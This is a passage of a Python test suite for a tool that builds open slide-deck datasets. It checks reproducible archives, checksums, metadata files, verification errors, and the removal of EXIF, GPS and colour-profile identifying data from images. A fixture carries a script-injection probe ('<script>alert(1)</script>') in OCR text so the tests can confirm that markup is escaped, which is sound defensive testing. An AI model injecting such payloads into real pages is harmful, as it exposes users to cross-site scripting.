"""The open dataset bundle: contents, reproducibility, verification, standard metadata files."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import shlex
import struct
import subprocess
import sys
import tarfile
import zlib
from pathlib import Path

import frictionless
import numpy as np
import pytest
import yaml
from conftest import build_cmd, unpack
from PIL import Image, ImageDraw, PngImagePlugin

from deckgen.build import DATASET_VERSION
from deckgen.bundle import VERSION as BUNDLE_VERSION
from deckgen.bundle import archive_name, build_bundle, content_digest, verify_bundle
from deckgen.bundle_card import FIELDS
from deckgen.bundle_images import (
    encode_upscaled,
    icc_without_metadata,
    image_ext,
    sniff_format,
)
from deckgen.ocr import VERSION as OCR_VERSION
from deckgen.records import (
    SECTIONS,
    TEXT_LAYER,
    DeckMeta,
    OcrResult,
    SectionResult,
    Slide,
    UpscaleResult,
    Word,
    slide_id,
)
from deckgen.upscale import decode_image

ROOT = "deckgen-dataset-v1"


def _jpeg(seed: int) -> bytes:
    image = Image.new("RGB", (96, 54), (255 - seed * 20, 240, 230))
    ImageDraw.Draw(image).text((4, 20), f"Slide {seed}", fill=(0, 0, 0))
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=75)
    return out.getvalue()


def _png_upscaled(source: bytes) -> bytes:
    with Image.open(io.BytesIO(source)) as image:
        big = image.resize((image.width * 2, image.height * 2), Image.Resampling.BICUBIC)
    out = io.BytesIO()
    big.save(out, format="PNG")
    return out.getvalue()


def _slide(deck: str, page: int, *, failed: bool = False) -> Slide:
    source = _jpeg(page + len(deck))
    scores = {s: 0.0 for s in SECTIONS}
    scores["problem"], scores["market"] = 0.7, 0.3
    return Slide(
        id=slide_id(deck, page), deck=deck, page=page, source=f"{deck}/{page:03d}.jpg",
        sha256=hashlib.sha256(source).hexdigest(),
        upscale=UpscaleResult("bicubic", 2.0, 0.01, 192, 108, 96, 54),
        ocr=None if failed else OcrResult(
            text=f"The problem | page {page}\n<script>alert(1)</script>", title="The problem",
            mean_confidence=87.5, words=[Word("The", 91.0, [4, 20, 20, 9], 0)], lines=["The"]),
        section=None if failed else SectionResult("problem", scores, ["cue: 'problem'"]),
    )


@pytest.fixture
def corpus() -> tuple[list[Slide], dict[str, DeckMeta]]:
    slides = [_slide("acme", p) for p in (1, 2, 3)] + [_slide("zeta-labs", p) for p in (1, 2)]
    slides.append(_slide("zeta-labs", 3, failed=True))
    decks = {
        "acme": DeckMeta("acme", company="Acme | Co\n<b>", title="Seed deck", year=2021,
                         stage="seed", industry="fintech", source_url="https://example.org/a",
                         license="CC-BY-4.0"),
        "zeta-labs": DeckMeta("zeta-labs", company="Zeta", year=None, license="CC-BY-4.0"),
    }
    return slides, decks


def _build(corpus, out_dir: Path, upscaled_format: str = "webp", **kwargs) -> dict:
    slides, decks = corpus
    sources = {s.id: _jpeg(s.page + len(s.deck)) for s in slides}
    return build_bundle(
        slides, decks, lambda s: sources[s.id],
        lambda s: encode_upscaled(_png_upscaled(sources[s.id]), upscaled_format), out_dir,
        upscaled_format=upscaled_format, **kwargs)


def _members(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive, "r:gz") as tar:
        return {m.name: tar.extractfile(m).read() for m in tar if m.isfile()}  # type: ignore


def _rewrite(archive: Path, edit) -> None:
    """Rebuild the archive with one member's bytes changed by ``edit(name, data)``."""
    out = io.BytesIO()
    with tarfile.open(archive, "r:gz") as src, tarfile.open(fileobj=out, mode="w:gz") as dst:
        for member in src:
            data = src.extractfile(member).read() if member.isfile() else None  # type: ignore
            if data is not None:
                data = edit(member.name.split("/", 1)[1], data)
                member.size = len(data)
            dst.addfile(member, io.BytesIO(data) if data is not None else None)
    archive.write_bytes(out.getvalue())


def test_bundle_summary_and_layout(corpus, tmp_path):
    info = _build(corpus, tmp_path / "dataset")
    archive = tmp_path / "dataset" / archive_name("1")
    assert info["file"] == f"dataset/{archive.name}"
    assert info["bytes"] == archive.stat().st_size
    assert info["sha256"] == hashlib.sha256(archive.read_bytes()).hexdigest()
    assert (info["slides"], info["decks"]) == (5, 2)
    assert [s["id"] for s in info["skipped"]] == ["zeta-labs/003"]
    names = set(_members(archive))
    for name in ("README.md", "SHA256SUMS", "croissant.json", "datapackage.json",
                 "metadata.jsonl", "slides.csv", "images/original/acme/001.jpg",
                 "images/upscaled/acme/001.webp"):
        assert f"{ROOT}/{name}" in names
    assert not any("zeta-labs/003" in n for n in names)


def test_provenance_and_card_say_the_versions_the_slides_were_built_with(corpus, tmp_path):
    made_by = {"deckgen": "0.0.9", "upscale": "6+abc", "opencv": "4.8.0", "ocr": "ocr-12",
               "tesseract": "tesseract 4.1.1", "classify": "classify-8+def",
               "index": "6", "site": "4", "bundle": BUNDLE_VERSION}
    _build(corpus, tmp_path / "dataset", versions=made_by)
    members = _members(next((tmp_path / "dataset").glob("*.tar.gz")))
    prov = json.loads(next(v for k, v in members.items() if k.endswith("/provenance.json")))
    assert prov["deckgen"] == "0.0.9" and prov["bundle_format"] == BUNDLE_VERSION
    assert prov["upscale"]["version"] == "6+abc" and prov["upscale"]["opencv"] == "4.8.0"
    assert prov["ocr"]["version"] == "ocr-12" and prov["ocr"]["tesseract"] == "tesseract 4.1.1"
    assert prov["classify"]["version"] == "classify-8+def"
    card = next(v for k, v in members.items() if k.endswith("/README.md")).decode()
    assert "Built by deckgen 0.0.9" in card
    assert "OCR (`ocr-12`): tesseract 4.1.1" in card and OCR_VERSION not in card
    assert "Classifier (`classify-8+def`)" in card


def test_provenance_and_card_name_how_pdf_pages_were_rendered_and_read(corpus, tmp_path):
    # QA-82: a PDF page's original and words depend on PDFium and the text-layer rule
    import pypdfium2

    made_by = {"deckgen": "0.0.9", "pdf-text": "pdf-text-7", "bundle": BUNDLE_VERSION}
    _build(corpus, tmp_path / "plain", versions=made_by)
    members = _members(next((tmp_path / "plain").glob("*.tar.gz")))
    prov = json.loads(next(v for k, v in members.items() if k.endswith("/provenance.json")))
    pdfium = str(pypdfium2.PDFIUM_INFO.version)
    assert (prov["pdf"]["text_layer"], prov["pdf"]["pdfium"]) == ("pdf-text-7", pdfium)
    card = next(v for k, v in members.items() if k.endswith("/README.md")).decode()
    assert "PDFium" not in card  # no PDF page: nothing rendered
    slides, decks = corpus
    next(s for s in slides if s.id == "acme/002").source = "acme/deck.pdf#p2"
    _build(corpus, tmp_path / "pdf", versions=made_by)
    members = _members(next((tmp_path / "pdf").glob("*.tar.gz")))
    card = " ".join(next(v for k, v in members.items() if k.endswith("/README.md")).decode()
                    .split())
    assert (f"- PDF pages: rendered to PNG by PDFium {pdfium}, their text layer read by "
            "`pdf-text-7`.") in card
    assert "libwebp versions (and PDFium, for the PDF pages) give the same SHA-256" in card


def test_upscaled_webp_is_decodable_and_png_option_keeps_png(corpus, tmp_path):
    _build(corpus, tmp_path / "a")
    webp = _members(tmp_path / "a" / archive_name("1"))[f"{ROOT}/images/upscaled/acme/002.webp"]
    with Image.open(io.BytesIO(webp)) as image:
        assert (image.format, image.size) == ("WEBP", (192, 108))
    _build(corpus, tmp_path / "b", upscaled_format="png")
    members = _members(tmp_path / "b" / archive_name("1"))
    assert members[f"{ROOT}/images/upscaled/acme/002.png"].startswith(b"\x89PNG")
    assert verify_bundle(tmp_path / "b" / archive_name("1")) == []


def test_two_builds_are_byte_identical_and_rebuild_keeps_the_file(corpus, tmp_path):
    first = _build(corpus, tmp_path / "one")
    second = _build(corpus, tmp_path / "two")
    assert first["sha256"] == second["sha256"]
    archive = tmp_path / "one" / archive_name("1")
    before = archive.stat().st_mtime_ns
    again = _build(corpus, tmp_path / "one")
    assert again["written"] is False and archive.stat().st_mtime_ns == before


def test_archive_headers_are_fixed(corpus, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    raw = archive.read_bytes()
    assert raw[3] & 0x08 == 0, "gzip header must carry no file name"
    assert raw[4:8] == b"\0\0\0\0", "gzip header must carry no time"
    with tarfile.open(archive, "r:gz") as tar:
        members = tar.getmembers()
    names = [m.name for m in members]
    assert names == sorted(names) and names[0] == ROOT
    for m in members:
        assert (m.mtime, m.uid, m.gid, m.uname, m.gname) == (1700000000, 0, 0, "", "")
        assert m.mode == (0o755 if m.isdir() else 0o644)


def test_metadata_rows_csv_and_sums(corpus, tmp_path):
    _build(corpus, tmp_path)
    members = _members(tmp_path / archive_name("1"))
    rows = [json.loads(line) for line in members[f"{ROOT}/metadata.jsonl"].decode().splitlines()]
    assert [r["id"] for r in rows] == ["acme/001", "acme/002", "acme/003",
                                       "zeta-labs/001", "zeta-labs/002"]
    first = rows[0]
    assert set(first) == {f.name for f in FIELDS}
    assert (first["company"], first["year"]) == ("Acme | Co\n<b>", 2021)
    assert first["section"] == "problem"
    assert first["words"] == [{"text": "The", "conf": 91.0, "box": [4, 20, 20, 9], "line": 0,
                               "source": "ocr"}]
    assert first["file_name"] == "images/upscaled/acme/001.webp"
    table = list(csv.DictReader(io.StringIO(members[f"{ROOT}/slides.csv"].decode())))
    assert [r["id"] for r in table] == [r["id"] for r in rows]
    assert "words" not in table[0] and json.loads(table[0]["section_scores"])["problem"] == 0.7
    assert table[0]["text"] == rows[0]["text"]  # newlines survive CSV quoting
    sums = members[f"{ROOT}/SHA256SUMS"].decode().splitlines()
    listed = {line.split("  ", 1)[1]: line.split("  ", 1)[0] for line in sums}
    assert set(listed) == {n.split("/", 1)[1] for n in members} - {"SHA256SUMS"}
    for name, digest in listed.items():
        assert hashlib.sha256(members[f"{ROOT}/{name}"]).hexdigest() == digest



@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP", "GIF", "TIFF", "BMP"])
def test_one_magic_table_names_each_format_as_pillow_does(fmt):
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buf, fmt)
    data = buf.getvalue()
    with Image.open(io.BytesIO(data)) as image:
        assert sniff_format(data) == image.format == fmt
    kept = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp"}
    if fmt in kept:
        assert image_ext(data) == kept[fmt]
    else:
        with pytest.raises(ValueError, match="not a JPEG, PNG or WebP"):
            image_ext(data)


def test_a_riff_file_that_is_not_webp_is_no_image():
    wav = b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt "
    assert sniff_format(wav) is None and sniff_format(b"\xff\xd8") is None

def test_data_card_has_hf_header_and_escapes_deck_metadata(corpus, tmp_path):
    _build(corpus, tmp_path)
    card = _members(tmp_path / archive_name("1"))[f"{ROOT}/README.md"].decode()
    _, header, body = card.split("---\n", 2)
    meta = yaml.safe_load(header)
    assert meta["license"] == "cc-by-4.0"
    assert meta["size_categories"] == ["n<1K"]
    assert meta["configs"][0]["data_files"][0]["path"][0] == "metadata.jsonl"
    assert "## Limitations" in body and "## How it was made" in body
    assert "Acme \\| Co &lt;b&gt;" in body and "<b>" not in body


def test_mixed_licences_give_other(corpus, tmp_path):
    slides, decks = corpus
    decks["zeta-labs"].license = "All rights reserved"
    _build((slides, decks), tmp_path)
    card = _members(tmp_path / archive_name("1"))[f"{ROOT}/README.md"].decode()
    meta = yaml.safe_load(card.split("---\n", 2)[1])
    assert meta["license"] == "other" and "All rights reserved" in meta["license_name"]


def test_croissant_describes_the_files(corpus, tmp_path):
    _build(corpus, tmp_path)
    members = _members(tmp_path / archive_name("1"))
    doc = json.loads(members[f"{ROOT}/croissant.json"])
    assert doc["conformsTo"] == "http://mlcommons.org/croissant/1.0"
    assert doc["@type"] == "sc:Dataset" and "datePublished" not in doc  # no SOURCE_DATE_EPOCH
    for dist in doc["distribution"]:
        if dist["@type"] == "cr:FileObject":
            data = members[f"{ROOT}/{dist['contentUrl']}"]
            assert dist["sha256"] == hashlib.sha256(data).hexdigest()
    slides = doc["recordSet"][0]
    assert {f["name"] for f in slides["field"]} >= {"id", "file_name", "section", "text"}


def test_datapackage_validates_with_frictionless(corpus, tmp_path):
    _build(corpus, tmp_path)
    unpack(tmp_path / archive_name("1"), tmp_path / "x")
    report = frictionless.validate(str(tmp_path / "x" / ROOT / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    # slides.csv is the one table (a tabular package may hold only CSV); the rest are files
    assert [t.stats.get("rows") for t in report.tasks if t.type == "table"] == [5]
    assert len(report.tasks) == 4  # metadata.jsonl, slides.csv, provenance.json, README.md


def test_verify_passes_a_good_bundle(corpus, tmp_path):
    _build(corpus, tmp_path)
    assert verify_bundle(tmp_path / archive_name("1")) == []


def test_verify_reads_a_slide_with_more_text_than_csvs_default_cell_limit(corpus, tmp_path):
    slides, decks = corpus
    slides[0].ocr.text = "word " * 40_000  # 200,000 characters: Python's csv stops at 131,072
    _build((slides, decks), tmp_path)
    assert verify_bundle(tmp_path / archive_name("1")) == []


def test_verify_names_a_corrupted_image(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    target = "images/upscaled/acme/002.webp"
    _rewrite(archive, lambda name, data: data[:-1] + b"!" if name == target else data)
    problems = verify_bundle(archive)
    assert len(problems) == 1 and problems[0].startswith(f"{target}: checksum mismatch")


def test_verify_names_a_schema_error_with_line_and_field(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")

    def break_page(name: str, data: bytes) -> bytes:
        if name != "metadata.jsonl":
            return data
        lines = data.decode().splitlines(keepends=True)
        row = json.loads(lines[1])
        row["page"], row["section"] = "two", "pricing"
        lines[1] = json.dumps(row) + "\n"
        return "".join(lines).encode()

    _rewrite(archive, break_page)
    problems = verify_bundle(archive)
    assert any(p.startswith("metadata.jsonl: checksum mismatch") for p in problems)
    assert "metadata.jsonl line 2 (acme/002): field 'page' should be integer, got str" in problems


def test_verify_reports_missing_and_unlisted_members(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    _rewrite(archive, lambda name, data: data + b"0" * 64 + b"  ghost.txt\n"
             if name == "SHA256SUMS" else data)
    missing = "ghost.txt: listed in SHA256SUMS but missing from the archive"
    assert verify_bundle(archive) == [missing]


def test_verify_reports_an_unreadable_archive(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    archive.write_bytes(archive.read_bytes()[:2000])
    problems = verify_bundle(archive)
    assert len(problems) == 1 and "cannot read the archive" in problems[0]


def test_version_bump_replaces_the_old_archive(corpus, tmp_path):
    _build(corpus, tmp_path)
    info = _build(corpus, tmp_path, version="2")
    assert sorted(p.name for p in tmp_path.iterdir()) == [archive_name("2")]
    assert info["file"] == "dataset/deckgen-dataset-v2.tar.gz"
    with tarfile.open(tmp_path / archive_name("2"), "r:gz") as tar:
        assert tar.getnames()[0] == "deckgen-dataset-v2"
    assert gzip.decompress((tmp_path / archive_name("2")).read_bytes())  # plain gzip


def test_unreadable_slide_image_is_skipped_not_fatal(corpus, tmp_path):
    slides, decks = corpus

    def source(slide: Slide) -> bytes:
        if slide.id == "acme/002":
            raise OSError("disk gone")
        return _jpeg(1)

    upscaled = encode_upscaled(_png_upscaled(_jpeg(1)))
    info = build_bundle(slides, decks, source, lambda s: upscaled, tmp_path)
    assert info["slides"] == 4
    assert {"id": "acme/002", "reason": "image unavailable: disk gone"} in info["skipped"]
    assert verify_bundle(tmp_path / archive_name("1")) == []


def test_garbage_source_is_skipped_with_a_reason(corpus, tmp_path):
    slides, decks = corpus
    info = build_bundle(slides, decks,
                        lambda s: b"not an image" if s.id == "acme/001" else _jpeg(1),
                        lambda s: encode_upscaled(_png_upscaled(_jpeg(1))), tmp_path)
    assert info["skipped"][0] == {"id": "acme/001", "reason": "image unavailable: not an image: "
                                  "the format is not recognised"}
    assert info["slides"] == 4


def test_upscaled_image_in_another_format_is_skipped_with_a_reason(corpus, tmp_path):
    slides, decks = corpus
    info = build_bundle(slides, decks, lambda s: _jpeg(1),
                        lambda s: _png_upscaled(_jpeg(1)) if s.id == "acme/002"
                        else encode_upscaled(_png_upscaled(_jpeg(1))), tmp_path)
    assert {"id": "acme/002", "reason": "image unavailable: upscaled image is not a WEBP"} in (
        info["skipped"])
    assert info["slides"] == 4
    assert verify_bundle(tmp_path / archive_name("1")) == []


# --- originals in formats other than JPEG, PNG and WebP ----------------------------------------

def _encoded(image: Image.Image, fmt: str, **kwargs) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **kwargs)
    return out.getvalue()


def _odd_sources() -> dict[str, bytes]:
    """One slide per format the corpus takes besides JPEG/PNG/WebP, in awkward modes."""
    frames = [Image.new("P", (96, 54), i) for i in (0, 1)]
    for frame, colour in zip(frames, ((200, 30, 30), (30, 30, 200)), strict=True):
        frame.putpalette([*colour, 255, 255, 255] + [0] * 762)
        ImageDraw.Draw(frame).text((4, 20), "GIF", fill=1)
    gif = _encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100)
    cmyk = Image.new("CMYK", (96, 54), (0, 40, 80, 10))
    ImageDraw.Draw(cmyk).text((4, 20), "CMYK", fill=(0, 0, 0, 255))
    deep = Image.fromarray(np.tile(np.arange(96, dtype=np.uint16) * 600, (54, 1)))
    assert deep.mode == "I;16"
    return {
        "acme/001": gif,
        "acme/002": _encoded(_decoded_rgb(_jpeg(3)), "BMP"),
        "acme/003": _encoded(cmyk, "TIFF", compression="tiff_lzw"),
        "zeta-labs/001": _encoded(deep, "TIFF"),
        "zeta-labs/002": _jpeg(7),
    }


def _decoded_rgb(data: bytes) -> Image.Image:
    return Image.fromarray(decode_image(data, 10**7)[..., ::-1].copy())


def _build_odd(corpus, out_dir: Path) -> tuple[dict, dict[str, bytes]]:
    slides, decks = corpus
    sources = _odd_sources()
    pdf_page = next(s for s in slides if s.id == "zeta-labs/002")
    pdf_page.source = "zeta-labs/deck.pdf#p2"
    sources["zeta-labs/002"] = _encoded(_decoded_rgb(_jpeg(7)), "PNG")  # a rendered PDF page
    info = build_bundle(slides, decks, lambda s: sources[s.id],
                        lambda s: encode_upscaled(_png_upscaled(_jpeg(1))), out_dir)
    return info, sources


def _png_chunks(png: bytes) -> list[bytes]:
    chunks, at = [], 8
    while at < len(png):
        (length,) = struct.unpack(">I", png[at:at + 4])
        chunks.append(png[at + 4:at + 8])
        at += 12 + length
    return chunks


def test_gif_bmp_and_tiff_originals_are_stored_as_png_of_what_the_pipeline_read(corpus, tmp_path):
    info, sources = _build_odd(corpus, tmp_path / "a")
    archive = tmp_path / "a" / archive_name("1")
    assert (info["slides"], [s["id"] for s in info["skipped"]]) == (5, ["zeta-labs/003"])
    members = _members(archive)
    rows = {r["id"]: r for r in map(json.loads, members[f"{ROOT}/metadata.jsonl"].splitlines())}
    assert {i: r["source_format"] for i, r in rows.items()} == {
        "acme/001": "GIF", "acme/002": "BMP", "acme/003": "TIFF", "zeta-labs/001": "TIFF",
        "zeta-labs/002": "PDF"}
    for slide_id_, source in sources.items():
        name = rows[slide_id_]["original_file_name"]
        assert name == f"images/original/{slide_id_}.png"
        png = members[f"{ROOT}/{name}"]
        assert _png_chunks(png) == [b"IHDR", b"IDAT", b"IEND"]  # no time, text or dpi chunks
        with Image.open(io.BytesIO(png)) as stored:
            pixels = np.asarray(stored.convert("RGB"))
        # lossless, and the very image OCR saw: the GIF's first frame, CMYK and 16-bit converted
        assert np.array_equal(pixels, decode_image(source, 10**7)[..., ::-1])
    assert tuple(np.asarray(Image.open(io.BytesIO(
        members[f"{ROOT}/images/original/acme/001.png"])).convert("RGB"))[0, 0]) == (200, 30, 30)
    assert verify_bundle(archive) == []
    assert _build_odd(corpus, tmp_path / "b")[0]["sha256"] == info["sha256"]  # reproducible


def test_an_image_format_the_corpus_does_not_take_is_skipped_with_a_reason(corpus, tmp_path):
    slides, decks = corpus
    ppm = _encoded(Image.new("RGB", (8, 8)), "PPM")
    info = build_bundle(slides, decks, lambda s: ppm if s.id == "acme/001" else _jpeg(1),
                        lambda s: encode_upscaled(_png_upscaled(_jpeg(1))), tmp_path)
    assert {"id": "acme/001", "reason": "image unavailable: source is a PPM image, not JPEG, "
            "PNG, WebP, GIF, BMP or TIFF"} in info["skipped"]


def test_data_card_and_schema_describe_converted_originals(corpus, tmp_path):
    _build_odd(corpus, tmp_path)
    members = _members(tmp_path / archive_name("1"))
    card = members[f"{ROOT}/README.md"].decode()
    assert "image data kept as it is, their metadata" in card and "`source_format`" in card
    assert "| `source_format` | string |" in card
    package = json.loads(members[f"{ROOT}/datapackage.json"])
    schema = {f["name"]: f for f in package["resources"][1]["schema"]["fields"]}
    assert "GIF" in schema["source_format"]["constraints"]["enum"]


# --- originals keep their image data, not their metadata ------------------------------------

# what each metadata container of the sources below carries: none of it may be published
_SECRETS = (b"Jane Private", b"GPS-SECRET", b"XMP-SECRET", b"COMMENT-SECRET", b"TEXT-SECRET",
            b"ITXT-SECRET", b"APPENDED-SECRET", b"THUMB-SECRET-XY")
_XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>XMP-SECRET</dc:creator></x:xmpmeta>'


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x013B] = "Jane Private"  # Artist
    exif[0xA431] = "Jane Private"  # BodySerialNumber
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (51.0, 30.0, 12.5), 0x12: "GPS-SECRET"})  # latitude, map datum
    return exif.tobytes()


def _with_jfif_thumbnail(jpeg: bytes) -> bytes:
    """``jpeg`` (Pillow's: SOI, then a JFIF header with no thumbnail) with a 5x1 thumbnail."""
    jfif = jpeg[6:18] + b"\x05\x01" + b"THUMB-SECRET-XY"  # 5x1 RGB: 15 bytes
    return jpeg[:2] + b"\xff\xe0" + struct.pack(">H", 2 + len(jfif)) + jfif + jpeg[20:]


def _slide_art(mode: str = "RGB") -> Image.Image:
    image = Image.new("RGB", (96, 54), (240, 235, 225))
    ImageDraw.Draw(image).text((4, 20), "Metadata", fill=(20, 40, 160))
    return image.convert(mode)


def _sources_with_metadata() -> dict[str, bytes]:
    """A camera's or an editor's files: EXIF with GPS, XMP, comments, text chunks, appended
    bytes; a colour profile that must stay."""
    from PIL import ImageCms

    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    png_info = PngImagePlugin.PngInfo()
    png_info.add_text("Author", "TEXT-SECRET")
    png_info.add_itxt("Comment", "ITXT-SECRET", lang="en")
    png_info.add(b"tIME", struct.pack(">HBBBBB", 2024, 5, 6, 7, 8, 9))
    return {
        "acme/001": _with_jfif_thumbnail(_encoded(
            _slide_art(), "JPEG", quality=90, exif=_exif(), icc_profile=icc,
            comment=b"COMMENT-SECRET", xmp=_XMP)) + b"APPENDED-SECRET",
        "acme/002": _encoded(_slide_art(), "JPEG", progressive=True, optimize=True,
                             exif=_exif()),  # several scans, tables between them
        "acme/003": _encoded(_slide_art("CMYK"), "JPEG", exif=_exif()),  # with Adobe APP14
        "zeta-labs/001": _encoded(_slide_art(), "PNG", pnginfo=png_info, exif=_exif(),
                                  icc_profile=icc) + b"APPENDED-SECRET",
        "zeta-labs/002": _encoded(_slide_art(), "WEBP", quality=80, exif=_exif(), xmp=_XMP,
                                  icc_profile=icc) + b"APPENDED-SECRET",
    }


def _webp_chunks(webp: bytes) -> list[bytes]:
    chunks, at = [], 12
    while at < len(webp):
        (length,) = struct.unpack("<I", webp[at + 4:at + 8])
        chunks.append(webp[at:at + 4])
        at += 8 + length + length % 2
    return chunks


def _build_from(corpus, sources: dict[str, bytes], out_dir: Path) -> dict[str, tuple[dict, bytes]]:
    """Each slide's metadata row and stored original, from a bundle of ``sources``."""
    slides, decks = corpus
    info = build_bundle(slides, decks, lambda s: sources[s.id],
                        lambda s: encode_upscaled(_png_upscaled(_jpeg(1))), out_dir)
    archive = out_dir / info["file"].split("/")[-1]
    assert verify_bundle(archive) == []
    members = _members(archive)
    rows = [json.loads(line) for line in members[f"{ROOT}/metadata.jsonl"].splitlines()]
    return {r["id"]: (r, members[f"{ROOT}/{r['original_file_name']}"]) for r in rows}


def test_originals_are_published_without_their_metadata_and_with_the_same_pixels(corpus,
                                                                                  tmp_path):
    sources = _sources_with_metadata()
    for source in sources.values():  # each source carries what must not be published
        assert b"Jane Private" in source and b"GPS-SECRET" in source
    stored = _build_from(corpus, sources, tmp_path)
    for slide_id_, source in sources.items():
        row, data = stored[slide_id_]
        ext = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp"}[sniff_format(source)]
        assert row["original_file_name"] == f"images/original/{slide_id_}.{ext}"  # not re-encoded
        assert [secret for secret in _SECRETS if secret in data] == [], slide_id_
        assert b"Exif" not in data and len(data) <= len(source)
        with Image.open(io.BytesIO(source)) as before, Image.open(io.BytesIO(data)) as after:
            assert (after.format, after.mode) == (before.format, before.mode)
            profile = before.info.get("icc_profile")  # its text and device fields blanked
            assert after.info.get("icc_profile") == (
                icc_without_metadata(profile) if profile else None), slide_id_
            assert np.array_equal(np.asarray(after), np.asarray(before)), slide_id_
            assert dict(after.getexif()) == {}
    assert b"Adobe" in stored["acme/003"][1]  # CMYK's colours read without inverting them
    assert _png_chunks(stored["zeta-labs/001"][1]) == [b"IHDR", b"iCCP", b"IDAT", b"IEND"]
    webp = stored["zeta-labs/002"][1]
    assert _webp_chunks(webp) == [b"VP8X", b"ICCP", b"VP8 "]
    assert webp[20] & 0x0C == 0  # VP8X says no EXIF, no XMP
    assert struct.unpack("<I", webp[4:8])[0] == len(webp) - 8


def test_originals_without_metadata_are_stored_as_they_are(corpus, tmp_path):
    # deckgen sample's JPEGs (as these, Pillow's) carry the JFIF header alone
    sources = {s.id: _jpeg(s.page + len(s.deck)) for s in corpus[0]}
    stored = _build_from(corpus, sources, tmp_path)
    assert {i: data == sources[i] for i, (_, data) in stored.items()} == dict.fromkeys(stored, True)


def test_an_original_whose_structure_cannot_be_followed_is_stored_as_a_png(corpus, tmp_path):
    sources = {s.id: _jpeg(s.page) for s in corpus[0]}
    jpeg = _encoded(_slide_art(), "JPEG", exif=_exif())
    after_jfif = 4 + struct.unpack(">H", jpeg[4:6])[0]
    # bytes between two segments, which Pillow and libjpeg pass over; a PNG cut before IEND
    sources["acme/001"] = jpeg[:after_jfif] + b"APPENDED-SECRET" + jpeg[after_jfif:]
    png_info = PngImagePlugin.PngInfo()
    png_info.add_text("Author", "TEXT-SECRET")
    sources["acme/002"] = _encoded(_slide_art(), "PNG", pnginfo=png_info)[:-12]
    stored = _build_from(corpus, sources, tmp_path)
    for slide_id_, fmt in (("acme/001", "JPEG"), ("acme/002", "PNG")):
        row, data = stored[slide_id_]
        assert (row["original_file_name"], row["source_format"]) == (
            f"images/original/{slide_id_}.png", fmt)
        assert _png_chunks(data) == [b"IHDR", b"IDAT", b"IEND"]  # a fresh PNG of its pixels
        assert not any(secret in data for secret in _SECRETS)
        with Image.open(io.BytesIO(data)) as image:
            assert np.array_equal(np.asarray(image), decode_image(sources[slide_id_],
                                                                  10**7)[..., ::-1])


# --- colour profiles: the colours stay, who and what made them goes -----------------------------

_ICC_SECRETS = ("ICC-DESC-SECRET", "ICC-DESC-UNICODE-SECRET", "ICC-DESC-MAC-SECRET",
                "ICC-CPRT-SECRET", "ICC-DMND-SECRET", "ICC-DMDD-SECRET", "ICC-META-SECRET",
                "ICC-MMOD-SECRET", "ICC-GAP-SECRET", "ICC-ID-SECRET-16", "ICCPNAME-SECRET")


def _mluc(text: str) -> bytes:
    string = text.encode("utf-16-be")
    return b"mluc\0\0\0\0" + struct.pack(">II4sII", 1, 12, b"enUS", len(string), 28) + string


def _fingerprinted_icc(curve_points: int = 256) -> bytes:
    """A display-calibration profile as a calibrator writes one: lcms's sRGB colorants with
    ``curve_points``-long tone curves, under a header naming the display (maker, model,
    attributes, creator, date, profile ID) and text tags of every kind naming its owner."""
    from PIL import ImageCms

    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    (count,) = struct.unpack(">I", srgb[128:132])
    tags = {}
    for entry in range(132, 132 + 12 * count, 12):
        sig, offset, size = struct.unpack(">4sII", srgb[entry:entry + 12])
        tags[sig] = srgb[offset:offset + size]
    def curve(gamma: float) -> bytes:
        return b"curv\0\0\0\0" + struct.pack(">I", curve_points) + b"".join(
            struct.pack(">H", round(65535 * (i / (curve_points - 1)) ** gamma))
            for i in range(curve_points))

    ascii_, unicode_ = b"ICC-DESC-SECRET\0", "ICC-DESC-UNICODE-SECRET\0".encode("utf-16-be")
    name, value = "serial".encode("utf-16-be"), "ICC-META-SECRET".encode("utf-16-be")
    tags.update({
        b"desc": (b"desc\0\0\0\0" + struct.pack(">I", len(ascii_)) + ascii_
                  + struct.pack(">4sI", b"enUS", len(unicode_) // 2) + unicode_
                  + struct.pack(">HB", 0, 20) + b"ICC-DESC-MAC-SECRET\0".ljust(67, b"\0")),
        b"cprt": b"text\0\0\0\0ICC-CPRT-SECRET\0",
        b"dmnd": _mluc("ICC-DMND-SECRET"), b"dmdd": _mluc("ICC-DMDD-SECRET"),
        b"calt": b"dtim\0\0\0\0" + struct.pack(">6H", 2023, 5, 6, 7, 8, 9),
        b"meta": (b"dict\0\0\0\0" + struct.pack(">6I", 1, 16, 32, len(name),
                                                32 + len(name), len(value)) + name + value),
        b"mmod": b"mmod\0\0\0\0ICC-MMOD-SECRET\0",
        b"rTRC": curve(1.8), b"gTRC": curve(2.0), b"bTRC": curve(2.2)})
    table_end = 132 + 12 * len(tags)
    body, table = b"", b""
    for sig, tag in tags.items():
        table += struct.pack(">4sII", sig, table_end + len(body), len(tag))
        body += tag + b"\0" * (-len(tag) % 4)
        if sig == b"cprt":
            body += b"ICC-GAP-SECRET\0\0"  # bytes no tag holds
    header = bytearray(srgb[:128])
    header[24:36] = struct.pack(">6H", 2023, 5, 6, 7, 8, 9)
    header[48:64] = b"JNPL" + b"D123" + b"ATTRSECR"  # the display's maker, model, attributes
